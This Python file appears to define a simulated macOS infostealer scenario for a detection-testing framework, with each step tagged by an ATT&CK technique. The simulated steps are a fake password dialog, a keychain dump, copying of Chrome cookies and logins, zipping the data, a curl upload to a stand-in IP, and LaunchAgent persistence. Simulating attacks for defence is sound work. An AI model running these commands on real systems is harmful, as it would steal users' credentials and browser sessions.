"""Infostealer on macOS: a fake video tool asks for the password and steals browser data and
wallets."""

from vedette.simulate.story import Delete, End, Run, Story, Write

_BUNDLE = "/Volumes/MeetNote/MeetNote.app/Contents/MacOS/MeetNote"
_BOX = "/tmp/mn_9f31"  # noqa: S108
_PROMPT = (
    """osascript -e 'display dialog "MeetNote needs your password to continue." """
    """default answer "" with title "System Preferences" with hidden answer'"""
)
_CHROME = "/Users/<user>/Library/Application Support/Google/Chrome/Default"

INFOSTEALER = Story(
    name="infostealer",
    title="macOS infostealer: fake prompt, keychain and browser data, upload",
    hosts=(("mac", "mac"),),
    hour=11.2,
    query="os_type:osx process_name:osascript",
    steps=(
        Run(0, "mac", "app", "T1204.002", "finder", _BUNDLE, _BUNDLE),
        Run(2, "mac", "shell", "T1059.004", "app", "/bin/sh", "sh -c 'dscl . -list /Users'"),
        Run(0.2, "mac", "users", "T1087.001", "shell", "/usr/bin/dscl", "dscl . -list /Users"),
        End(0.2, "mac", "users", ""),
        Run(1, "mac", "prompt", "T1056.002", "app", "/usr/bin/osascript", _PROMPT),
        End(25, "mac", "prompt", ""),
        Run(0.5, "mac", "check", "T1110", "app", "/usr/bin/dscl", "dscl . authonly <user> ****"),
        End(0.2, "mac", "check", ""),
        Run(
            1,
            "mac",
            "profile",
            "T1082",
            "app",
            "/usr/sbin/system_profiler",
            "system_profiler SPHardwareDataType SPSoftwareDataType",
        ),
        End(2, "mac", "profile", ""),
        Run(
            1,
            "mac",
            "keys",
            "T1555.001",
            "app",
            "/usr/bin/security",
            "security dump-keychain -d /Users/<user>/Library/Keychains/login.keychain-db",
        ),
        Write(2, "mac", "app", "T1555.001", f"{_BOX}/keychain.txt"),
        End(0.2, "mac", "keys", ""),
        Run(1, "mac", "cp1", "T1539", "app", "/bin/cp", f"cp '{_CHROME}/Cookies' {_BOX}/cookies"),
        Write(0.1, "mac", "cp1", "T1539", f"{_BOX}/cookies"),
        End(0.1, "mac", "cp1", ""),
        Run(
            1,
            "mac",
            "cp2",
            "T1555.003",
            "app",
            "/bin/cp",
            f"cp '{_CHROME}/Login Data' {_BOX}/logins",
        ),
        Write(0.1, "mac", "cp2", "T1555.003", f"{_BOX}/logins"),
        End(0.1, "mac", "cp2", ""),
        Run(
            3, "mac", "pack", "T1560.001", "app", "/usr/bin/ditto", f"ditto -c -k {_BOX} {_BOX}.zip"
        ),
        Write(1, "mac", "pack", "T1560.001", f"{_BOX}.zip"),
        End(0.3, "mac", "pack", ""),
        Run(
            2,
            "mac",
            "send",
            "T1041",
            "app",
            "/usr/bin/curl",
            f"curl -X POST -F file=@{_BOX}.zip http://203.0.113.99/joinsystem",
        ),
        End(5, "mac", "send", ""),
        Write(
            4,
            "mac",
            "app",
            "T1543.001",
            "/Users/<user>/Library/LaunchAgents/com.meetnote.agent.plist",
        ),
        Delete(2, "mac", "app", "T1070.004", f"{_BOX}.zip"),
        End(2, "mac", "app", ""),
    ),
)
